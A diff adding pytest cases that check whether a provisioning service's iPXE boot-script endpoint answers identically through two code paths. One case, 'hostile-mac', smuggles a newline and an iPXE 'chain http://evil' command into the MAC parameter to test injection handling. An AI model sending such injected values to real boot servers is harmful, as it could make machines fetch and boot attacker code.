@@ -321,6 +321,94 @@ def test_what_each_answer_looks_like(pair: Pair) -> None:
     assert len(pair.fast) == 3  # all three answered by BootDoors itself
 
 
+IPXE = "/api/v1/boot/ipxe"
+
+
+def ipxe_url(m: Machine, extra: str = "", **values: str) -> str:
+    facts = {"mac": m.mac, "uuid": m.uuid, "serial": m.serial, "manufacturer": "Dell Inc.", "arch": "x86_64"}
+    return f"{IPXE}?" + "&".join(f"{k}={v}" for k, v in (facts | values).items()) + extra
+
+
+def _ipxe_rejected(services: Services, m: Machine) -> str:
+    device = factories.pending(services, m.mac)
+    services.devices.reject(Actor.system(), device.id)
+    return ipxe_url(m)
+
+
+def _ipxe_installed(services: Services, m: Machine) -> str:
+    services.devices.set_installed(Actor.system(), approve(services, m.mac, m.n).id, True)
+    return ipxe_url(m)
+
+
+def _ipxe_again(url: Callable[[Machine], str]) -> Setup:
+    def setup(services: Services, m: Machine) -> str:
+        factories.pending(services, m.mac, uuid=m.uuid, serial=m.serial)
+        return url(m)
+
+    return setup
+
+
+IPXE_CASES: list[tuple[str, Setup, bool]] = [  # name, setup, a machine of its own for each door
+    ("new-machine", lambda _s, m: ipxe_url(m), True),
+    ("new-machine-no-facts", lambda _s, m: f"{IPXE}?mac={m.mac}", True),
+    ("known-nothing-new", _ipxe_again(ipxe_url), False),
+    ("known-new-facts", _ipxe_again(lambda m: ipxe_url(m, product="PowerEdge R660")), False),
+    ("another-uuid", _ipxe_again(lambda m: ipxe_url(m, uuid="11111111-2222-3333-4444-555555555555")), False),
+    ("rejected", _ipxe_rejected, False),
+    ("installed", _ipxe_installed, False),
+    ("arm64", lambda _s, m: ipxe_url(m, arch="arm64"), True),
+    ("no-talos-build", lambda _s, m: ipxe_url(m, arch="riscv64"), True),
+    ("placeholders", lambda _s, m: ipxe_url(m, uuid="${uuid}", serial="${serial}"), True),
+    ("percent-encoded-mac", lambda _s, m: ipxe_url(m, mac=m.mac.replace(":", "%3A")), True),
+    ("repeated-mac", lambda _s, m: ipxe_url(m, f"&mac={m.mac}"), True),
+    ("value-over-256", lambda _s, m: ipxe_url(m, product="P" * 300), True),
+    ("hostile-mac", _nothing(f"{IPXE}?mac=%0Achain%20http://evil"), False),
+    ("no-query", _nothing(IPXE), False),
+]
+
+
+def test_an_ipxe_machine_gets_the_same_script_from_either_door(pair: Pair, monkeypatch: pytest.MonkeyPatch) -> None:
+    """iPXE's per-machine script through BootDoors and through the FastAPI route: the same status, headers and
+    script (each door's new machine of its own, its MAC the only difference), the same machine registered, and the
+    base URL taken from the request's Host as Starlette takes it."""
+    answered: list[bytes] = []
+    ipxe = BootDoors._ipxe
+
+    async def noted(self: BootDoors, scope: Scope, send: Send) -> int | None:
+        status = await ipxe(self, scope, send)
+        if status is not None:
+            answered.append(scope["query_string"])
+        return status
+
+    monkeypatch.setattr(BootDoors, "_ipxe", noted)
+    host = {"host": "ktizo.lab:8080"}
+    diverged = {}
+    for i, (name, setup, own) in enumerate(IPXE_CASES):
+        m, other = Machine(1001 + 2 * i), Machine(1002 + 2 * i)
+        url = setup(pair.services, m)
+        via_doors = Seen.of(pair.doors.get(url, headers=host))
+        assert len(answered) == i + 1, f"{name}: not answered by BootDoors"
+        route_url = setup(pair.route_services, other) if own else url
+        via_route = Seen.of(pair.route.get(route_url, headers=host))
+        assert len(answered) == i + 1, f"{name}: the route app has no fast path"
+        if own:
+            assert registered(pair.services, m, url) == registered(pair.services, other, route_url), name
+            via_route = Seen(
+                via_route.status,
+                via_route.content_type,
+                via_route.body.replace(other.mac.replace(":", "%3A").encode(), m.mac.replace(":", "%3A").encode()),
+                via_route.headers,
+                via_route.retry_after,
+            )
+        if via_doors != via_route:
+            diverged[name] = (via_doors, via_route)
+        assert (via_doors.status, via_doors.content_type) == (200, "text/plain; charset=utf-8"), name
+        assert via_doors.text.startswith("#!ipxe\n"), name
+    assert diverged == {}
+    booted = Seen.of(pair.doors.get(ipxe_url(Machine(1999)), headers=host))
+    assert "kernel http://ktizo.lab:8080/assets/talos/" in booted.text
+
+
 # -- metrics -------------------------------------------------------------------------------------------------------
 
 
